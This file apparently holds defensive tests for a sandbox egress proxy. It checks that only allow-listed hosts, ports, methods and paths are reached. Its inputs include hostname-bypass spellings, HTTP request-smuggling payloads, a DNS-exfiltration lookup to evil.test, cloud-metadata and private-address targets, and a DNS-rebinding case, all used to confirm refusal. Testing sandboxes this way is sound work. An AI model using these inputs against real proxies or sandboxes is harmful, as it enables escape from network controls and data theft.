# SPDX-License-Identifier: Apache-2.0
"""Names, ports, addresses: what is allowed is reached, and nothing else is. Each refusal has its positive control beside it."""
from base import TALK, EgressTest, both
from lab import DNS, EVIL, METADATA, OWN, PRIVATE, PUBLIC, PYTHON

URLLIB = """
import sys, urllib.request, urllib.error
for url in sys.argv[1:]:
    try:
        print("BODY", urllib.request.urlopen(url, timeout=20).read().decode().strip())
    except urllib.error.HTTPError as error:
        print("STATUS", error.code, error.read().decode().strip())
    except OSError as error:
        print("FAILED", error)
"""

# Straight to an address, without the proxy: nonce, then what came of it.
DIRECT = """
import errno, socket, sys
print("BEGAN", flush=True)
kind = socket.SOCK_DGRAM if sys.argv[3] == "udp" else socket.SOCK_STREAM
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, kind)
s.settimeout(5)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    print("REACHED" if kind == socket.SOCK_DGRAM or s.recv(10) else "EMPTY")
except OSError as error:
    print("DENIED", errno.errorcode.get(error.errno, error))
"""


class NamesTest(EgressTest):
    @both
    def test_an_allowed_name_is_reached_and_another_is_not(self, who):
        run = self.inside(["allowed.test"], self.python(URLLIB, "http://allowed.test/one", "http://evil.test/two"), who)
        self.assertIn(f"BODY SERVED {PUBLIC} allowed.test", run.text, run)
        self.assertIn("STATUS 403", run.text)
        self.assertIn("--allow-host 'evil.test'", run.text)
        self.assertIn(f"BODY SERVED {EVIL}", self.outside(self.python(URLLIB, "http://evil.test/control")).stdout.decode())
        self.assert_refused(run, "evil.test", "--allow-host 'evil.test'")
        self.assertFalse(self.lab.seen("http", path="/two"))

    @both
    def test_an_empty_list_allows_nothing(self, who):
        run = self.inside([], self.python(URLLIB, "http://allowed.test/empty", "http://127.0.0.1:3128/", f"http://{PUBLIC}/empty"), who)
        self.assertNotIn("BODY", run.text, run)
        self.assertFalse(self.lab.seen("http", path="/empty"))
        self.assertFalse(self.lab.seen("dns", name="empty.test"))

    @both
    def test_no_name_but_an_allowed_one_is_looked_up(self):
        self.inside(["allowed.test"], self.python(URLLIB, "http://c2VjcmV0.evil.test/"))
        self.assertFalse([entry for entry in self.lab.seen("dns") if "c2vjcmv0" in entry["name"]])

    @both
    def test_spellings_of_other_hosts_are_refused(self):
        for target in ("notallowed.test", "allowed.test.evil.test", "allowed.test@evil.test", "user:allowed.test@evil.test", "evil.test%00.allowed.test",
                       "allowed.test%2eevil.test", "allowed.test\\x00.evil.test", "allowed.test#@evil.test", "3405803787", "0xcb00710b", "0313.0.0161.013",
                       "203.0.28939", "evil.test.", "EVIL.test", "\\xe5vil.test", "[::ffff:203.0.113.11]", "[fe80::1%25eth0]", "[fe80::1%eth0]", "-", "allowed..test", ".allowed.test", "[allowed.test]", "[203.0.113.10]", "allowed.test:443"):
            with self.subTest(target=target):
                run = self.inside(["allowed.test"], self.python(TALK, f"CONNECT {target}:80 HTTP/1.1\\r\\n\\r\\n"))
                self.assertIn("SENT", run.text, run)
                self.assertRegex(run.text, "GOT HTTP/1.1 40[03] ")
        for port in ("0", "65536", "-1", "80x", "", " 80", "0x50"):
            with self.subTest(port=port):
                self.assertRegex(self.inside(["allowed.test"], self.python(TALK, f"CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n")).text, "GOT HTTP/1.1 400 ")
        for target in ("allowed.test", "ALLOWED.Test", "allowed.test."):
            with self.subTest(target=target):
                run = self.inside(["allowed.test"], self.python(TALK, f"CONNECT {target}:80 HTTP/1.1\\r\\n\\r\\n", "200"))
                self.assertIn("GOT HTTP/1.1 200 ", run.text)

    @both
    def test_lines_in_a_target_are_no_second_request(self):
        request = "CONNECT evil.test:80\\r\\nHost: allowed.test:80 HTTP/1.1\\r\\n\\r\\n"
        self.assertRegex(self.inside(["allowed.test"], self.python(TALK, request)).text, "GOT HTTP/1.1 400 ")
        for request in ("GET http://allowed.test/\\nsmuggled HTTP/1.1\\r\\n\\r\\n", "GET http://allowed.test/ HTTP/1.1\\nHost: a\\n\\n",
                        "GET http://allowed.test/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"):
            self.assertRegex(self.inside(["allowed.test"], self.python(TALK, request)).text, "GOT HTTP/1.1 400 ")

    @both
    def test_heads_that_two_readers_could_read_in_two_ways_are_refused(self):
        get, end = "GET http://allowed.test/doubtful HTTP/1.1\\r\\n", "\\r\\n\\r\\n"
        for request in (get + "Host: allowed.test\\r\\nHost: evil.test" + end, get + "X: a\\r\\n folded: b" + end, get + "Host : evil.test" + end, get + "X\\x00: a" + end, get + ": a" + end,
                        get + "Content-Length: 1\\r\\nContent-Length: 2" + end, get + "Content-Length: 1, 1" + end, get + "Content-Length: +1" + end, get + "Content-Length: 0x1" + end,
                        get + "Transfer-Encoding: chunked, identity" + end, get + "Transfer-Encoding: xchunked" + end, get + "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: chunked" + end,
                        get.replace("1.1", "1.0") + "Transfer-Encoding: chunked" + end, get.replace("GET ", "GET  ") + end[4:], get.replace("GET ", "GET\\t") + end[4:], get.replace("HTTP/1.1", "HTTP/2.0") + end[4:],
                        get.replace("allowed.test", "allowed.test:80@evil.test") + end[4:], get.replace("allowed.test", "me@allowed.test") + end[4:], get.replace("allowed.test", "allowed.test\\\\@evil.test") + end[4:],
                        get.replace("allowed.test", "allowed.test:0") + end[4:], get.replace("allowed.test", "allowed.test:65536") + end[4:], get.replace("http://", "https://") + end[4:], get.replace("http://", "ftp://") + end[4:],
                        "CONNECT allowed.test:443 HTTP/1.1\\r\\nContent-Length: 5" + end, "PRI * HTTP/2.0" + end + "SM" + end, "CONNECT http://allowed.test/ HTTP/1.1" + end, "\\x04\\x01\\x00\\x50\\xcb\\x00\\x71\\x0a\\x00" + end):
            with self.subTest(request=request):
                self.assertRegex(self.inside(["allowed.test", "allowed.test:8080"], self.python(TALK, request)).text, "GOT HTTP/1.1 400 ")
        self.assertFalse(self.lab.seen("http", path="/doubtful"))
        self.assertIn("SERVED", self.inside(["allowed.test"], self.python(TALK, get + "Host: allowed.test" + end)).text)
        self.assertEqual(len(self.lab.seen("http", path="/doubtful")), 1, "control: without the doubt it arrives")
        self.lab.forget("/doubtful")

    @both
    def test_a_connection_is_never_upgraded(self):
        path = f"/upgrade-{self.who}"
        request = (f"GET http://allowed.test{path} HTTP/1.1\\r\\nConnection: Upgrade, HTTP2-Settings, X-Hop\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n"
                   "X-Hop: a\\r\\nTE: trailers\\r\\nProxy-Authorization: Basic eA==\\r\\nX-Kept: b\\r\\n\\r\\n")
        self.assertIn("SERVED", self.inside(["allowed.test"], self.python(TALK, request)).text)
        headers = self.lab.seen("http", path=path)[0]["headers"]
        self.assertEqual(headers, {"Host": "allowed.test", "X-Kept": "b", "Connection": "close"})

    @both
    def test_a_second_request_on_the_same_connection_goes_nowhere(self):
        two = "GET http://allowed.test/first HTTP/1.1\\r\\n\\r\\nGET http://evil.test/pipelined HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
        run = self.inside(["allowed.test"], self.python(TALK, two))
        self.assertEqual(run.text.count("SERVED"), 1, run)
        self.assertFalse(self.lab.seen("http", path="/pipelined"))

    @both
    def test_the_host_header_is_the_proxys(self):
        request = "GET http://allowed.test/fronted HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
        self.assertIn(f"SERVED {PUBLIC} allowed.test", self.inside(["allowed.test"], self.python(TALK, request)).text)
        tunnel = "CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\nGET /tunnelled HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n"
        self.assertIn("SERVED", self.inside(["allowed.test"], self.python(TALK, tunnel.format("allowed.test"), "SERVED")).text)
        self.assertIn("HTTP/1.1 403 the Host header", self.inside(["allowed.test"], self.python(TALK, tunnel.format("evil.test"))).text)
        self.assertFalse([e for e in self.lab.seen("http") if e["host"] == "evil.test" and e["address"] == PUBLIC])

    @both
    def test_suffixes_ports_methods_and_paths(self):
        def get(rules, url):
            return "BODY" in self.inside(rules, self.python(URLLIB, url)).text
        self.assertTrue(get(["*.allowed.test"], "http://deep.sub.allowed.test/"))
        self.assertTrue(get(["*.allowed.test"], "http://sub.allowed.test/"))
        self.assertFalse(get(["*.allowed.test"], "http://allowed.test/"))
        self.assertFalse(get(["allowed.test"], "http://sub.allowed.test/"))
        self.assertFalse(get(["allowed.test"], "http://allowed.test:8080/"))
        self.assertTrue(get(["allowed.test:8080"], "http://allowed.test:8080/"))
        self.assertFalse(get(["allowed.test:8080"], "http://allowed.test/"))
        self.assertTrue(get(["GET allowed.test/open"], "http://allowed.test/open/x"))
        for path in ("shut", "opened", "open/../shut", "open/%2e%2e/shut", "open//x"):
            self.assertFalse(get(["GET allowed.test/open"], "http://allowed.test/" + path), path)
        post = "import urllib.request as r; print('BODY', r.urlopen(r.Request('http://allowed.test/up', data=b'12345')).read())"
        self.assertNotIn("BODY", self.inside(["GET allowed.test"], self.python(post)).text)
        self.assertIn("POSTED 5", self.inside(["GET,POST allowed.test"], self.python(post)).text)

    @both
    def test_chunked_bodies_go_through(self):
        chunked = "POST http://allowed.test/up HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nhello\\r\\n3\\r\\nyou\\r\\n0\\r\\n\\r\\n"
        self.assertIn("POSTED 8", self.inside(["allowed.test"], self.python(TALK, chunked)).text)

    @both
    def test_a_redirect_is_judged_anew(self):
        run = self.inside(["allowed.test"], self.python(URLLIB, "http://allowed.test/redirect"))
        self.assertIn("STATUS 403", run.text, run)
        self.assertFalse(self.lab.seen("http", path="/secret"))
        self.assertIn("BODY", self.outside(self.python(URLLIB, "http://allowed.test/redirect")).stdout.decode())
        self.lab.forget("/secret")


class AddressesTest(EgressTest):
    @both
    def test_names_of_addresses_that_are_not_public_are_refused(self):
        rules = [name for name in ("loop.test", "private.test", "meta.test", "own.test", "zero.test", "multi.test", "cgnat.test", "loop6.test", "mapped.test",
                                   "mappedloop.test", "nat64.test", "sixtofour.test", "local6.test", "unique6.test")]
        for name in ("private.test", "meta.test", "own.test"):   # positive control: without a sandbox they can be reached
            self.assertIn("BODY", self.outside(self.python(URLLIB, f"http://{name}/control")).stdout.decode(), name)
        before = len(self.lab.seen("http"))
        run = self.inside(rules, self.python(URLLIB, *(f"http://{name}/inner" for name in rules)))
        self.assertEqual(run.text.count("STATUS 403"), len(rules), run)
        self.assertEqual(run.text.count("which is not public"), len(rules))
        self.assertEqual(len(self.lab.seen("http")), before)

    @both
    def test_a_rule_that_names_the_range_allows_it(self):
        self.assertIn("BODY", self.inside([f"private.test={PRIVATE}/32"], self.python(URLLIB, "http://private.test/")).text)
        self.assertIn("BODY", self.inside(["private.test", "10.0.0.0/8"], self.python(URLLIB, "http://private.test/")).text)
        self.assertIn("BODY", self.inside(["10.0.0.0/8:80"], self.python(URLLIB, f"http://{PRIVATE}/")).text)
        self.assertIn("STATUS 403", self.inside(["private.test=10.8.0.0/16"], self.python(URLLIB, "http://private.test/")).text)
        self.assertIn("BODY", self.inside(["loop.test=127.0.0.0/8"], self.python(URLLIB, "http://loop.test/")).text)

    @both
    def test_a_literal_address_needs_a_rule_for_addresses(self):
        for url in (f"http://{PUBLIC}/", f"http://{METADATA}/latest/meta-data", f"http://{OWN}/"):
            self.assertIn("STATUS 403", self.inside(["allowed.test", "*.test"], self.python(URLLIB, url)).text)
        self.assertIn("BODY", self.inside([PUBLIC], self.python(URLLIB, f"http://{PUBLIC}/")).text)

    @both
    def test_of_several_addresses_a_public_one_is_taken(self):
        self.assertIn(f"BODY SERVED {PUBLIC}", self.inside(["both.test"], self.python(URLLIB, "http://both.test/")).text)

    @both
    def test_ipv6_is_reached(self):
        self.assertIn("BODY", self.inside(["six.test"], self.python(URLLIB, "http://six.test/")).text)

    @both
    def test_a_name_that_changes_is_judged_at_the_address_that_is_connected_to(self, who):
        """Rebinding: the first answer is public, every later one is this host's loopback, where a server waits."""
        name = f"rebind-{who}.test"
        code = URLLIB + f"\nimport time; time.sleep(11); print('AGAIN', urllib.request.build_opener().open('http://{name}/again', timeout=20).read())"
        run = self.inside([name], self.python(code, f"http://{name}/first"), who, ["--timeout", "60s"])
        self.assertIn(f"BODY SERVED {PUBLIC}", run.text, run)
        self.assertNotIn("AGAIN", run.text, run)
        self.assertFalse(self.lab.seen("http", path="/again"))
        self.assertIn("BODY SERVED 127.0.0.1", self.outside(self.python(URLLIB, f"http://{name}/control")).stdout.decode(), "control: it does resolve to where that server is")

    def test_a_name_that_nobody_knows_or_that_is_never_answered_fails_and_says_so(self):
        run = self.inside(["*.test"], self.python(URLLIB, "http://nobody.nowhere.test/", "http://silent.test/", "http://closed.test/"), options=["--timeout", "60s"])
        self.assertEqual(run.text.count("STATUS 50"), 3, run)


class DirectTest(EgressTest):
    @both
    def test_nothing_is_reached_without_the_proxy(self, who):
        for address, port, kind in ((PUBLIC, 80, "tcp"), (PUBLIC, 9000, "tcp"), (EVIL, 80, "tcp"), (DNS, 53, "udp"), (METADATA, 80, "tcp"), (PRIVATE, 80, "tcp"),
                                    (OWN, 80, "tcp"), ("127.0.0.1", 80, "tcp"), ("2600:db9::10", 80, "tcp")):
            with self.subTest(address=address, port=port):
                self.assertIn("REACHED", self.outside(self.python(DIRECT, address, port, kind)).stdout.decode(), "positive control")
                run = self.inside(["allowed.test"], self.python(DIRECT, address, port, kind), who)
                self.assertIn("BEGAN", run.text, run)
                self.assertIn("DENIED", run.text, run)

    @both
    def test_names_inside_fail_at_once(self):
        code = "import socket, time; t = time.monotonic()\ntry:\n    print(socket.getaddrinfo('allowed.test', 80))\nexcept socket.gaierror as e:\n    print('FAILED', e, time.monotonic() - t < 5)"
        run = self.inside(["allowed.test"], self.python(code))
        self.assertRegex(run.text, "FAILED .* True")

    @both
    def test_unset_variables_lead_nowhere(self):
        run = self.inside(["allowed.test"], ["env", "-i", "PATH=/usr/bin:/bin", "curl", "-sS", "-m", "10", "http://allowed.test/"])
        self.assertNotIn("SERVED", run.text)
        self.assertNotEqual(run.report["exit_code"], 0)
        self.assertIn("SERVED", self.inside(["allowed.test"], ["curl", "-sS", "http://allowed.test/"]).text)

    @both
    def test_the_port_of_the_proxy_belongs_to_the_engine(self):
        code = ("import socket, errno\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
                "try:\n    s.bind(('127.0.0.1', 3128)); s.listen(); print('TAKEN')\nexcept OSError as e:\n    print('DENIED', errno.errorcode[e.errno])")
        self.assertIn("DENIED EADDRINUSE", self.inside(["allowed.test"], self.python(code)).text)
        self.assertIn("TAKEN", self.inside(["allowed.test"], self.python(code.replace("3128", "3129"))).text)   # control: another port, on a loopback that works

    def test_the_variables_of_the_proxy_are_ours(self):
        for name in ("HTTP_PROXY", "https_proxy", "NO_PROXY", "ALL_PROXY"):
            run = self.inside(["allowed.test"], ["true"], options=["--env", f"{name}=http://127.0.0.1:1"])
            self.assertEqual(run.status, 125, run)


class OtherNetworksTest(EgressTest):
    def test_the_host_network_stays_another_word(self):
        run = self.inside([], ["true"], options=[])
        self.assertIn("network", run.report["enforced"]["namespaces"])

    def test_hosts_and_another_network_contradict_each_other(self):
        scratch = self.scratch()
        for network in ("none", "host"):
            run = scratch.run(["true"], "--network", network, "--allow-host", "allowed.test")
            self.assertEqual(run.status, 125)
            self.assertIn("--network egress", str(run.report["error"]))

    def test_a_bad_rule_is_refused_before_anything_runs(self):
        for rule in ("https://allowed.test", "allowed.test:0", "*", "user@allowed.test", "10.0.0.1/8", ""):
            run = self.scratch().run(["true"], "--allow-host", rule)
            self.assertEqual(run.status, 125, rule)
            self.assertIn("for example", str(run.report["error"]))
